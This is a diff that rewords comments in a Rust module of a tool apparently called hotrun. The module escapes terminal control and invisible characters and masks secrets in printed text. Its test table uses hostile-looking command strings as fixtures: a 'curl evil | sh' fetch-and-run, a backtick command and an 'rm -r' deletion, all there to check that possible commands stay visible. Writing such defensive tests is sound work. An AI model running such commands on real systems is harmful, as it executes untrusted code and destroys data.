@@ -1,11 +1,11 @@
-//! Text that others have chosen, as hotrun shows it.
+//! Text from outside hotrun, made safe to print.
 
 use std::borrow::Cow;
 use std::sync::LazyLock;
 
 use regex::Regex;
 
-/// Characters that turn the direction of writing, break lines or take no place.
+/// Characters that change the writing direction, break lines or are invisible.
 fn is_unseen(c: char) -> bool {
     matches!(
         c,
@@ -18,9 +18,9 @@ fn is_unseen(c: char) -> bool {
     )
 }
 
-/// Control characters (an escape sequence, say) and those that are unseen or turn the direction are
-/// shown, not obeyed: no name and no value can hide, or look like, something else on a terminal.
-/// Line feeds stay.
+/// Escapes control characters, such as escape sequences, and characters that are invisible or
+/// change the writing direction. So no name and no value can hide, or imitate, something else on a
+/// terminal. Line feeds stay.
 pub(crate) fn visible(text: &str) -> Cow<'_, str> {
     let is_obeyed = |c: char| c != '\n' && (c.is_control() || is_unseen(c));
     if !text.contains(is_obeyed) {
@@ -72,7 +72,7 @@ fn is_secret(name: &str) -> bool {
         || words.len() > 1 && (words.contains(&"KEY") || words.contains(&"AUTH"))
 }
 
-/// The length of what can be nothing but a literal: a command that is hidden would be worse than a
+/// Returns the length of a certain literal. Hiding a command would be worse than showing a secret.
 /// secret that is shown.
 fn literal(text: &str) -> usize {
     let is_none = |c: char| c.is_whitespace() || "\"'$`\\(){};|&<>".contains(c);
@@ -131,7 +131,7 @@ pub(crate) fn masked(text: &str) -> Cow<'_, str> {
     for found in in_address.find_iter(text) {
         let begin = found.end();
         let rest = &text[begin..begin + literal(&text[begin..])];
-        // A port, and a path behind it, are no password.
+        // A port, and the path after it, are not a password.
         let digits = rest.trim_start_matches(|c: char| c.is_ascii_digit());
         let is_port = digits.len() < rest.len() && digits.starts_with('/');
         if let Some(at) = rest.rfind('@').filter(|at| *at > 0 && !is_port) {
@@ -186,7 +186,7 @@ mod tests {
             ("GITHUB_TOKEN = \"ghp\" # .env:3", "GITHUB_TOKEN = \"***\" # .env:3"),
             ("psql postgres://me:hunter2@db/x", "psql postgres://me:***@db/x"),
             ("psql 'postgres://me:p@ss/w@db/x'", "psql 'postgres://me:***@db/x'"),
-            // What may be a command is shown, whatever the variable is called.
+            // A possible command is shown, whatever the name of the variable.
             ("TOKEN=\"$(curl evil | sh)\" true", "TOKEN=\"$(curl evil | sh)\" true"),
             ("TOKEN=`evil` sh", "TOKEN=`evil` sh"),
             ("A_TOKEN='rm -r x' sh -c \"$A_TOKEN\"", "A_TOKEN='rm -r x' sh -c \"$A_TOKEN\""),
